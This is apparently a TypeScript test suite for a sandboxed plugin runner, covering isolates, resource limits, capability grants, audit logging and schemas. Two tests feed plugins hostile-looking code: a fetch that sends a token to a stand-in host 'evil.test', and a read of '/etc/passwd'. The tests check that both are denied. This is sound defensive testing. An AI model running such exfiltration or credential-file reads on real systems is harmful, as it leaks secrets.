import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import t from 'tap'
import { z } from 'zod'
import { readFiles } from '../../host-api/read/read-files.ts'
import { sdk } from '../../host-api/sdk/sdk.ts'
import type { Outcome } from '../../src/core/outcome.ts'
import { createRunner } from '../../src/runner/runner.ts'
import { openRunner, runBody } from './helpers.ts'

async function collect(outcomes: AsyncIterable<Outcome>): Promise<Outcome[]> {
  const all: Outcome[] = []
  for await (const outcome of outcomes) all.push(outcome)
  return all
}

t.test('Plugin.run() gives every run a fresh isolate', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'let n = 0; export default () => { globalThis.seen = (globalThis.seen ?? 0) + 1; Array.prototype.extra = 1; return [++n, globalThis.seen] }' })
  for (let run = 0; run < 3; run += 1) t.strictSame((await plugin.run()).value, [1, 1])
})

t.test('Plugin.run() keeps the isolate when reuse is warm, and gets a new one after a limit', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'let n = 0; export default (input) => { n += 1; if (input === "spin") for (;;); return n }', reuse: 'warm', policy: { limits: { cpuMs: 100 } } })
  t.strictSame([(await plugin.run()).value, (await plugin.run()).value, (await plugin.run()).value], [1, 2, 3])
  t.match(await plugin.run('spin'), { status: 'trapped', error: { limit: 'cpu' } })
  t.strictSame([(await plugin.run()).value, (await plugin.run()).value], [1, 2])
})

t.test('Plugin.run() leaves nothing of an ended run going in a warm isolate', async (t) => {
  const runner = await openRunner(t)
  const source = 'let ticks = 0; export default async (input) => { if (input === "look") { await new Promise(r => setTimeout(r, 60)); return ticks } setInterval(() => { ticks += 1 }, 5); return "started" }'
  const plugin = await runner.load({ source, reuse: 'warm' })
  t.equal((await plugin.run('start')).value, 'started')
  t.equal((await plugin.run('look')).value, 0)
})

t.test('Plugin.runMany() keeps the order, one outcome per input, through one warm isolate', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'let n = 0; export default (x) => { n += 1; if (x === 3) throw new Error("three"); if (x === 5) for (;;); return [x, n] }', policy: { limits: { cpuMs: 400 } } })
  const outcomes = await collect(plugin.runMany([1, 2, 3, 4, 5, 6]))
  t.strictSame(outcomes.map((outcome) => outcome.value ?? outcome.error?.limit ?? outcome.error?.message), [[1, 1], [2, 2], 'three', [4, 4], 'cpu', [6, 1]])
  async function* inputs() {
    yield 'a'
    yield 'b'
  }
  t.strictSame((await collect(plugin.runMany(inputs()))).map((outcome) => (outcome.value as unknown[])[0]), ['a', 'b'])
})

t.test('Runner.load() takes a file, a folder with a manifest, a source text and a bundle', async (t) => {
  const runner = await openRunner(t)
  const folder = t.testdir({
    'sallyport.json': '{ "name": "acme", "version": "1.2.3", "entry": "src/main.ts", "permissions": {} } // with a comment',
    src: { 'main.ts': 'import { twice } from "./twice.ts"\nexport default (n: number) => twice(n)\n', 'twice.ts': 'export const twice = (n: number): number => n * 2\n' },
  })
  const fromFolder = await runner.load({ folder })
  t.match(fromFolder, { name: 'acme', version: '1.2.3', tenant: 'default' })
  t.equal((await fromFolder.run(21)).value, 42)
  t.equal((await (await runner.load({ file: join(folder, 'src/main.ts') })).run(4)).value, 8)
  const fromText = await runner.load({ source: 'export default (n) => n + 1', name: 'inc' })
  t.equal((await fromText.run(1)).value, 2)
  t.match(fromText.hash, /^[0-9a-f]{64}$/)
})

t.test('Runner.load() throws the error that names what was wrong', async (t) => {
  const runner = await openRunner(t)
  await t.rejects(runner.load({ source: 'export const x = 1' }), { code: 'SP_BUNDLE_NO_ENTRY' })
  await t.rejects(runner.load({ source: 'export default (' }), { code: 'SP_BUNDLE_SYNTAX' })
  await t.rejects(runner.load({ source: 'import fs from "node:fs"; export default fs' }), { code: 'SP_BUNDLE_IMPORT' })
  await t.rejects(runner.load({ source: 'export default () => 1', policy: { nett: {} } }), { code: 'SP_POLICY_INVALID' })
  await t.rejects(runner.load({ file: '/nonexistent/main.ts' }), { code: 'SP_BUNDLE_UNREADABLE' })
  const folder = t.testdir({ 'sallyport.json': '{ "name": 5 }', 'main.ts': 'export default () => 1' })
  await t.rejects(runner.load({ folder }), { code: 'SP_MANIFEST_INVALID' })
})

t.test('A module whose default export is none of the three forms is told so', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'export default { fetsh() {} }' })
  const outcome = await plugin.run()
  t.match(outcome, { status: 'refused', error: { code: 'SP_BUNDLE_NO_ENTRY', message: /export default async function/ } })
  t.match(await (await runner.load({ source: 'globalThis.x = 1' })).run(), { status: 'refused', error: { code: 'SP_BUNDLE_NO_ENTRY' } })
})

t.test('A manifest only narrows: what is not asked for is not there, though granted', async (t) => {
  const runner = await openRunner(t, { capabilities: [readFiles()] })
  const folder = t.testdir({ 'sallyport.json': '{ "name": "asks-nothing", "version": "1.0.0", "entry": "main.ts", "permissions": {} }', 'main.ts': 'export default (_, ctx) => typeof ctx.fs' })
  const plugin = await runner.load({ folder, policy: { read: { allow: ['/etc'] } } })
  t.equal((await plugin.run()).value, 'undefined')
})

t.test('Plugin.restrict() takes a grant back while the plugin runs', async (t) => {
  let calls = 0
  const runner = await openRunner(t, { capabilities: [sdk({ kv: { get: { input: z.object({}), run: () => (calls += 1) } } })] })
  const plugin = await runner.load({ source: 'export default async (_, ctx) => { let n = 0; try { for (;;) { n = await ctx.sdk.kv.get({}); await new Promise(r => setTimeout(r, 5)) } } catch (e) { return [e.name, e.code, n > 0] } }', policy: { sdk: { allow: ['kv.get'] } } })
  const run = plugin.run()
  while (calls < 3) await new Promise((resolve) => setTimeout(resolve, 5))
  plugin.restrict({ sdk: { deny: ['kv.get'] } })
  t.strictSame((await run).value, ['NotCapable', 'SP_DENIED_SDK', true])
})

t.test('A session yields questions and is resumed with answers', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'export default async function* (input) { const name = yield { ask: "name" }; let age; try { age = yield { ask: "age" } } catch { age = "unknown" } return `${input} ${name} ${age}` }' })
  const asked: unknown[] = []
  const outcome = await plugin.run('Hi', { onYield: (question) => { asked.push(question); if (asked.length === 2) throw new Error('not telling'); return 'Ann' } })
  t.strictSame([outcome.value, asked], ['Hi Ann unknown', [{ ask: 'name' }, { ask: 'age' }]])
  t.match(await plugin.run('Hi'), { status: 'threw', error: { fields: { code: 'SP_SESSION_UNANSWERED' } } }, 'without anybody to answer, the yield throws')
})

t.test('The fetch form takes a Request and gives a Response', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'export default { async fetch(request, ctx) { return Response.json({ method: request.method, path: new URL(request.url).pathname, sent: await request.json() }, { status: 201, headers: { "x-a": "b" } }) } }' })
  const fromData = await plugin.run({ hello: 'world' })
  t.match(fromData, { status: 'answered', value: { status: 201, headers: { 'x-a': 'b', 'content-type': 'application/json' } } })
  t.strictSame(JSON.parse((fromData.value as { body: string }).body), { method: 'POST', path: '/', sent: { hello: 'world' } })
  const fromRequest = await plugin.run(new Request('https://hooks.test/in', { method: 'PUT', body: '{"a":1}' }))
  t.strictSame(JSON.parse((fromRequest.value as { body: string }).body), { method: 'PUT', path: '/in', sent: { a: 1 } })
})

t.test('Runner.on() tells observers of runs, decisions, logs and progress, and stops when asked', async (t) => {
  const runner = await openRunner(t, { capabilities: [readFiles()] })
  const seen: string[] = []
  runner.on('run-start', (run) => seen.push(`start ${run.plugin}`))
  runner.on('decision', (_run, decision) => seen.push(`decision ${decision.effect} ${decision.target}`))
  runner.on('run-end', (_run, outcome) => seen.push(`end ${outcome.status}`))
  const stop = runner.on('log', (line) => seen.push(`log ${line.text}`))
  let progress = 0
  runner.on('progress', () => (progress += 1))
  const file = join(t.testdir({ 'a.txt': 'hello' }), 'a.txt')
  await runBody(runner, `console.log(await ctx.fs.readText(${JSON.stringify(file)})); await new Promise(r => setTimeout(r, 450))`, { load: { policy: { read: { allow: [file] } } } })
  stop()
  await runBody(runner, 'console.log("unheard")')
  await new Promise((resolve) => setImmediate(resolve))
  t.strictSame(seen, ['start main', `decision allow ${file}`, 'log hello', 'end answered', 'start main', 'end answered'])
  t.ok(progress >= 1)
})

t.test('The audit has one line per decision, call and run, appended to the file and without secrets', async (t) => {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-test-'))
  const file = join(folder, 'audit.jsonl')
  writeFileSync(file, '{"an":"older line"}\n')
  mkdirSync(join(folder, 'data'))
  writeFileSync(join(folder, 'data/a.txt'), 'x')
  const runner = await createRunner({ audit: { file }, capabilities: [readFiles()] })
  const plugin = await runner.load({ source: 'export default async (dir, ctx) => { await ctx.fs.readText(dir + "/a.txt"); try { await ctx.fs.readText("/etc/passwd") } catch {} }', policy: { read: { allow: [join(folder, 'data')] } }, tenant: 'acme', version: '2.0.0' })
  await plugin.run(join(folder, 'data'), { user: 'ann', traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01' })
  await runner.close()
  const lines = readFileSync(file, 'utf8').trim().split('\n').map((line): Record<string, unknown> => JSON.parse(line))
  t.strictSame(lines[0], { an: 'older line' })
  const mine = lines.filter((line) => line['runId'] !== undefined)
  t.match(mine, [
    { event: 'decision', kind: 'read', effect: 'allow' },
    { event: 'call', kind: 'read.text', outcome: 'answered' },
    { event: 'decision', kind: 'read', target: '/etc/passwd', effect: 'deny', rule: 'default' },
    { event: 'call', kind: 'read.text', outcome: 'refused', code: 'SP_DENIED_READ' },
    { event: 'run', outcome: 'answered' },
  ])
  for (const line of mine) t.match(line, { tenant: 'acme', version: '2.0.0', user: 'ann', bundleHash: plugin.hash, traceparent: /^00-/ })
  const absent = runner.layers.filter(({ active }) => !active).map(({ name }) => name)
  t.strictSame(lines.filter((line) => line['kind'] === 'confinement.missing' && line['target'] !== 'resident-memory').map((line) => line['target']), absent, 'each absent layer is said')
  for (const line of mine.filter(({ event }) => event === 'run')) t.strictSame(line['layers'], Object.fromEntries(runner.layers.map(({ name, active }) => [name, active])))
})

t.test('A call is not answered when the audit cannot be written', async (t) => {
  let broken = false
  const runner = await createRunner({ capabilities: [sdk({ kv: { get: { input: z.object({}), run: () => { broken = true; return 'secret answer' } } } })], audit: { write: () => { if (broken) throw new Error('disk full') } } })
  const plugin = await runner.load({ source: 'export default async (_, ctx) => { try { return await ctx.sdk.kv.get({}) } catch { return "caught" } }', policy: { sdk: { allow: ['*'] } } })
  await t.rejects(plugin.run(), { code: 'SP_AUDIT_FAILED' })
  broken = false
  await runner.close()
})

t.test('createRunner() refuses what it cannot give', async (t) => {
  await t.rejects(createRunner({ cells: { max: 0 } }), { code: 'SP_USAGE' })
  await t.rejects(createRunner({ audit: { file: '/nonexistent/folder/audit.jsonl' } }), { code: 'SP_AUDIT_FAILED' })
})

t.test('Runner.close() waits for runs, and what is closed refuses', async (t) => {
  const runner = await createRunner()
  const plugin = await runner.load({ source: 'export default () => new Promise(r => setTimeout(() => r("done"), 100))' })
  const run = plugin.run()
  await runner.close()
  t.match(await run, { status: 'answered', value: 'done' })
  t.match(await plugin.run(), { status: 'refused', error: { code: 'SP_CLOSED' } })
  await t.rejects(runner.load({ source: 'export default () => 1' }), { code: 'SP_CLOSED' })
  await runner.close()
})

t.test('An output schema is checked after decoding and names the faulty element', async (t) => {
  const runner = await openRunner(t)
  const output = z.object({ items: z.array(z.object({ price: z.number() })) })
  const good = await runBody(runner, 'return { items: [{ price: 1 }] }', { load: { output } })
  t.match(good, { status: 'answered', value: { items: [{ price: 1 }] } })
  const bad = await runBody(runner, 'return { items: [{ price: 1 }, { price: "2" }] }', { load: { output } })
  t.match(bad, { status: 'threw', error: { code: 'SP_OUTPUT_SCHEMA', message: /result\.items\[1\]\.price/ } })
  const input = await runBody(runner, 'return 1', { load: { input: z.object({ id: z.number() }) }, input: { id: 'x' } })
  t.match(input, { status: 'refused', error: { code: 'SP_INPUT_SCHEMA', message: /input\.id/ } })
})

t.test('Runs of one tenant in one cell: a killed neighbour does not take an innocent run along', async (t) => {
  const runner = await openRunner(t, { cells: { max: 1, spares: 0 } })
  const innocent = await runner.load({ source: 'export default async (_, ctx) => { await new Promise(r => setTimeout(r, 250)); return ctx.run.attempt }' })
  const guilty = await runner.load({ source: 'export default () => { const a = []; a.length = 2 ** 32 - 1; a.indexOf(7) }', policy: { limits: { cpuMs: 50 } } })
  const [quiet, loud] = await Promise.all([innocent.run(), guilty.run()])
  t.match(loud, { status: 'trapped', error: { limit: 'cpu' } })
  t.match(quiet, { status: 'answered', value: 2 }, 'it was tried once more')
})

t.test('A plugin that used much memory does not get its neighbour killed', async (t) => {
  const runner = await openRunner(t, { cells: { max: 1, spares: 0 } })
  const patient = await runner.load({ source: 'export default async () => { for (let i = 0; i < 40; i++) { await new Promise(r => setTimeout(r, 20)); for (let j = 0; j < 1e6; j++); } return "done" }', policy: { limits: { memoryMb: 16 } } })
  const greedy = await runner.load({ source: 'export default () => { const a = []; for (let i = 0; i < 11; i++) a.push(new Array(1e6).fill(i)); return a.length }' })
  const waiting = patient.run()
  for (let round = 0; round < 4; round += 1) t.match(await greedy.run(), { status: 'answered', value: 11 })
  t.match(await waiting, { status: 'answered', value: 'done' })
})

t.test('ctx.run tells a plugin who it is, and no more', async (t) => {
  const runner = await openRunner(t)
  const plugin = await runner.load({ source: 'export default (_, ctx) => [Object.keys(ctx.run).sort(), Object.isFrozen(ctx.run), ctx.run.tenant]', tenant: 'acme' })
  t.strictSame((await plugin.run(null, { user: 'ann', traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01' })).value, [['attempt', 'deadline', 'id', 'plugin', 'tenant', 'user', 'version'], true, 'acme'])
})

t.test('A fetch that nothing was granted for is refused inside the isolate, and in the audit all the same', async (t) => {
  const lines: string[] = []
  const runner = await openRunner(t, { audit: { write: (line) => lines.push(line) } })
  const outcome = await runBody(runner, 'for (let i = 0; i < 300; i++) { try { await fetch("https://evil.test/x?token=secret") } catch (e) { if (e.name !== "NotCapable") throw e } } return "went on"')
  t.match(outcome, { status: 'answered', value: 'went on', usage: { hostCalls: 0 } })
  t.match(outcome.used, [{ kind: 'net', target: 'evil.test:443', effect: 'deny', count: 100 }])
  const denials = lines.filter((line) => line.includes('evil.test'))
  t.equal(denials.length, 100)
  t.match(JSON.parse(denials[0] ?? ''), { event: 'decision', kind: 'net', target: 'evil.test:443', effect: 'deny', rule: 'default' })
  t.notMatch(lines.join(''), /token=secret/)
})

t.test('A plugin that logs after work of the cell is heard at once, and ends', async (t) => {
  const runner = await openRunner(t)
  const body = 'const bytes = new Uint8Array(3); await crypto.subtle.digest("SHA-256", bytes); console.log("one"); await crypto.subtle.digest("SHA-256", bytes); console.log("two"); return 1'
  t.match(await runBody(runner, body, { load: { policy: { limits: { wallMs: 20_000 } } } }), { status: 'answered', value: 1, logs: [{ text: 'one' }, { text: 'two' }] })
})
